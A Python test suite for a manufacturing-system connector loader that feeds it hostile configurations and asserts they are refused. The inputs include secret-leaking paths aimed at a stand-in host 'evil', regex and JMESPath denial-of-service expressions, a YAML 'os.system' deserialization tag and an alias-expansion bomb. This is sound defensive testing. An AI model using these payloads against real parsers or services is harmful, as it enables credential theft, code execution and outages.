"""A connector file that means harm sends nobody's secrets elsewhere and holds nothing up; settings neither."""

from __future__ import annotations

import time
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from voicemes.config import MesSettings, load_settings
from voicemes.connectors import extract, open_connector
from voicemes.connectors.load import load_spec
from voicemes.connectors.parts import to_expression
from voicemes.connectors.pattern import to_pattern
from voicemes.errors import CatalogError, ConfigError, MesUnreachable
from voicemes.model import MesCommand
from voicemes.nlu.yamlfile import Document
from voicemes.testing import FakeClock

SECRET = "who-we-are"
SPEC: dict[str, Any] = {
    "name": "hostile",
    "auth": {"kind": "header", "send": {"headers": {"Authorization": "${KEY}"}}},
    "errors": {"code": "code", "reason": "detail", "rules": []},
    "operations": {"x": {"method": "POST", "path": "/act"}},
}
AT_ONCE_S = 5.0
"""What would take for ever, or an hour, is over by then; generous, because other tests run beside."""


def write(folder: Path, **parts: Any) -> Path:
    file = folder / "hostile.yaml"
    file.write_text(yaml.safe_dump({**SPEC, **parts}), encoding="utf-8")
    return file


class Line:
    """The other side: whoever is asked, and what came with it."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    def answer(self, request: httpx.Request) -> httpx.Response:
        self.asked.append(f"{request.url.host} {request.headers.get('Authorization')}")
        return httpx.Response(200, json={"access_token": "t", "items": []})


async def run(folder: Path, monkeypatch: pytest.MonkeyPatch, **parts: Any) -> list[str]:
    monkeypatch.setenv("KEY", SECRET)
    line = Line()
    settings = MesSettings(url="http://mes/site", connector=str(write(folder, **parts)))
    connector = open_connector(settings, transport=httpx.MockTransport(line.answer), clock=FakeClock())
    command = MesCommand("id", "x", {}, True, "Ana", "words", 0.0)
    try:
        with pytest.raises(MesUnreachable, match=r"another host|no address"):
            await (
                connector.live("SPP-1") if "live" in parts
                else anext(aiter(connector.news())) if "stream" in parts
                else connector.execute(command)
            )  # fmt: skip
    finally:
        await connector.aclose()
    return line.asked


ELSEWHERE = ["http://evil/x", "https://mes/x", "http://mes:81/x", "http://mes@evil/x", "HTTP://EVIL/x", "ftp://evil/x"]
FIRST = {"x": {"method": "POST", "path": "/act", "steps": [{"path": "http://evil/first"}]}}
CALLED = {"x": {"call": "x"}}
PLACES: dict[str, dict[str, Any]] = {
    "a step": {"operations": FIRST},
    "an envelope": {"operations": CALLED, "envelope": {"path": "http://evil/rpc", "body": "{_call}"}},
    "a list": {"live": {"references": {"job": {"path": "http://evil/jobs", "items": "items", "id": "id"}}}},
    "what stands here": {"live": {"current": {"job": {"path": "http://evil/now", "value": "id"}}}},
    "a stream": {"stream": {"path": "/http://evil/events"}},
    "a token": {"auth": {"kind": "oauth2", "path": "http://evil/token", "client": "c", "secret": "${KEY}"}},
    "a login": {"auth": {"kind": "login", "request": {"method": "POST", "path": "http://evil/", "body": "${KEY}"}}},
    "no address": {"operations": {"x": {"method": "POST", "path": "http://[x"}}},
    "control characters": {"operations": {"x": {"method": "POST", "path": "/a\x00b"}}},
}


@pytest.mark.parametrize("path", ELSEWHERE)
async def test_an_address_in_place_of_a_path_is_not_asked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, path: str
) -> None:
    assert await run(tmp_path, monkeypatch, operations={"x": {"method": "POST", "path": path}}) == []


@pytest.mark.parametrize("place", PLACES)
async def test_wherever_it_stands(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, place: str) -> None:
    assert await run(tmp_path, monkeypatch, **PLACES[place]) == []


@pytest.mark.parametrize("path", ["//evil", "//evil/x", "/\\evil", "http://evil"])
def test_a_base_path_that_names_a_host_is_refused(tmp_path: Path, path: str) -> None:
    with pytest.raises(ConfigError, match="base_path"):
        load_spec(write(tmp_path, base_path=path))


def answering(expression: str) -> dict[str, Any]:
    return {"x": {"method": "POST", "path": "/act", "answer": {"v": expression}}}


@pytest.mark.parametrize(
    "expression",
    [
        " | ".join(["[@, @]"] * 40),
        " | ".join(["{a: @, b: @, c: @}"] * 30),
        " | ".join(["map(&[@, @], [@])"] * 30),
        "[@, @, @, @, @, @, @, @, @, @, @][].[@, @, @, @, @, @, @, @, @, @, @]",
        "(" * 3_000 + "a" + ")" * 3_000,
        "!" * 5_000 + "a",
        "a | " * 3_000 + "a",
        "a[0]" * 3_000,
    ],
    ids=["lists", "mappings", "map", "flattened", "brackets", "nots", "pipes", "indices"],
)
def test_an_expression_that_blows_up_is_refused(tmp_path: Path, expression: str) -> None:
    started = time.monotonic()
    with pytest.raises(ConfigError, match=r"operations\.x\.answer\.v.*(too much|too deeply|JMESPath)"):
        load_spec(write(tmp_path, operations=answering(expression)))
    assert time.monotonic() - started < AT_ONCE_S


def test_an_expression_that_people_write_is_none(tmp_path: Path) -> None:
    """With as much growth as may be: ten columns of ten."""
    columns = ", ".join(f"c{n}: [a, b, c, d, e, f, g, h, i, j]" for n in range(10))
    found = extract.search(to_expression(f"items[?a == `1`].{{{columns}}}"), {"items": [{"a": 1}]})
    assert len(found[0]) == 10


@pytest.mark.parametrize(
    "pattern", ["(a+)+$", "(a|a)*$", "([a-z]+)*!", "(.*)*x", "(a?){300}a{300}", ".*.*.*x", "a{1,300}b{1,300}c*d*"]
)
def test_a_pattern_that_never_ends_is_refused(tmp_path: Path, pattern: str) -> None:
    rule = {"pattern": pattern, "means": "not_found"}
    with pytest.raises(ConfigError, match="repeats"):
        load_spec(write(tmp_path, errors={**SPEC["errors"], "rules": [rule]}))


@pytest.mark.parametrize(
    "pattern", ["^You are not (allowed|permitted)", r"order \(.*\) is \[closed\]", "[*+{]", "a.*b.*c"]
)
def test_a_pattern_that_people_write_is_searched_in_a_moment(pattern: str) -> None:
    made, started = to_pattern(pattern), time.monotonic()
    assert made.search("a" * 300 + "b" * 300 + "a") is None
    assert time.monotonic() - started < AT_ONCE_S


@pytest.mark.parametrize(
    "path", ["/{a|b64|b64|b64|b64|b64}", "/{a" + "|json" * 100 + "}", "/{a|eval}", "/{a.b.c}", "/{a!r}", "/{a[0]}"]
)
def test_a_template_that_does_more_than_it_may_is_refused(tmp_path: Path, path: str) -> None:
    operation = {"method": "POST", "path": path, "takes": ["a"]}
    with pytest.raises(ConfigError, match=r"operations\.x"):
        load_spec(write(tmp_path, operations={"x": operation}))


@pytest.mark.parametrize("place", ["path", "query", "headers", "body"])
def test_a_secret_outside_of_auth_is_refused(tmp_path: Path, place: str) -> None:
    part: Any = "/${HOME}" if place == "path" else {"k": "${HOME}"}
    with pytest.raises(ConfigError, match="secrets belong into auth"):
        load_spec(write(tmp_path, operations={"x": {"method": "POST", "path": "/act", place: part}}))


@pytest.mark.parametrize(
    "text",
    [
        '!!int "²"',
        '!!int "+-+5"',
        f'!!int "{"1" * 5_000}"',
        '!!float "²"',
        "!!python/object/apply:os.system [id]",
        "!!python/name:os.system x",
        "!!binary x",
        "!<tag:example.com,2026:x> y",
        "2026-01-01T00:00:00Z",
        "0x7fffffffffffffffffff",
        "1e999",
        ".inf",
    ],
)
def test_a_tag_of_yaml_makes_nothing_but_text(tmp_path: Path, text: str) -> None:
    file = tmp_path / "x.yaml"
    file.write_text(f"key: {text}\n", encoding="utf-8")
    held = Document(file).data["key"]
    assert isinstance(held, str | list)


def test_anchors_that_blow_up_are_refused(tmp_path: Path) -> None:
    file = tmp_path / "x.yaml"
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 20)]
    file.write_text("\n".join(lines), encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(CatalogError, match="repeats itself through aliases"):
        Document(file)
    assert time.monotonic() - started < AT_ONCE_S


@pytest.mark.parametrize(
    "text",
    [
        "a = " + "[" * 5_000,
        "a = " + "1" * 5_000,
        "a." * 5_000 + "a = 1",
        '[mes]\ntoken_file = "\\u0000"',
        '[mes]\nca_file = "\\u0000"',
        '[mes]\nurl = "http://mes:99999"',
        '[mes]\nproxy = "nonsense"',
        '[mes]\nproxy = "socks5://proxy:1080"',
        '[mes]\nproxy = "http://user:secret@proxy:99999"',
    ],
    ids=range(9),
)
def test_settings_that_cannot_be_used_are_one_sentence(tmp_path: Path, text: str) -> None:
    file = tmp_path / "voicemes.toml"
    file.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        open_connector(load_settings(file, {}).mes)
    assert "secret" not in str(caught.value)
